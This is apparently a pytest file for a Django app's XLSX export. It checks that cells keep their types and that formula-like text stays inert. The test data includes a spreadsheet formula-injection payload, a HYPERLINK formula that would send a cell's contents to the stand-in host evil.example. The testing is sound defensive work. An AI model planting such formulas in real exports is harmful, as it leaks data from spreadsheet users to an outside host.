"""The XLSX export read back as a spreadsheet reads it: cell values, cell types, and
formula-like text kept inert (#18)."""

import io

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from recommendations.exports import HEADERS
from recommendations.models import Recommendation

pytestmark = pytest.mark.django_db

R2016 = "community-planning-update-2016"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_xlsx_cells_keep_their_types_and_formulas_stay_text(auditor_client, seeded):
    rec = Recommendation.objects.get(report__slug=R2016, number=5)
    # Bypass the form's sanitising: what matters is what any stored text becomes.
    Recommendation.objects.filter(pk=rec.pk).update(text=FORMULA, theme="+SUM(A1:A9)")
    rec.refresh_from_db()

    response = auditor_client.get("/recommendations/", {"report": R2016, "sort": "number", "_export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith('attachment; filename="recommendations-')
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["Recommendations"]

    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == HEADERS
    assert len(rows) - 1 == Recommendation.objects.filter(report__slug=R2016).count()
    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"], "a formula cell"

    cells = dict(zip(HEADERS, rows[5], strict=True))  # sorted by number: the fifth
    values = {
        header: unescape(cell.value) if isinstance(cell.value, str) else cell.value for header, cell in cells.items()
    }
    assert values == {
        "Report": rec.report.title,
        "Published": "2016-03-03",
        "Number": 5,
        "Recommendation": "'" + FORMULA,
        "Owners": "COSLA; Scottish Government",
        "Theme": "'+SUM(A1:A9)",
        "Status": "Red",
        "Last assessed": "2018-07",
        "Updates": rec.update_count,
    }
    assert rec.update_count >= 1
    # Numbers are numbers; the partial dates ("2018-07": month precision) and the rest are text.
    assert {h: c.data_type for h, c in cells.items()} == {
        h: "n" if h in ("Number", "Updates") else "s" for h in HEADERS
    }


def test_xlsx_text_that_looks_like_a_number_or_link_stays_text_and_no_rows_keep_the_header(auditor_client, seeded):
    rec = Recommendation.objects.get(report__slug=R2016, number=5)
    Recommendation.objects.filter(pk=rec.pk).update(text="https://evil.example/", theme="12")

    response = auditor_client.get("/recommendations/", {"report": R2016, "sort": "number", "_export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["Recommendations"]
    cells = dict(zip(HEADERS, list(sheet.iter_rows())[5], strict=True))
    assert (cells["Recommendation"].value, cells["Recommendation"].data_type) == ("https://evil.example/", "s")
    assert cells["Recommendation"].hyperlink is None
    assert (cells["Theme"].value, cells["Theme"].data_type) == ("12", "s")

    nothing = auditor_client.get("/recommendations/", {"q": "no such words anywhere", "_export": "xlsx"})
    assert nothing.status_code == 200
    empty = load_workbook(io.BytesIO(b"".join(nothing.streaming_content)))["Recommendations"]
    values = [[cell.value for cell in row] for row in empty.iter_rows()]
    assert values[0] == HEADERS
    assert all(value is None for row in values[1:] for value in row)
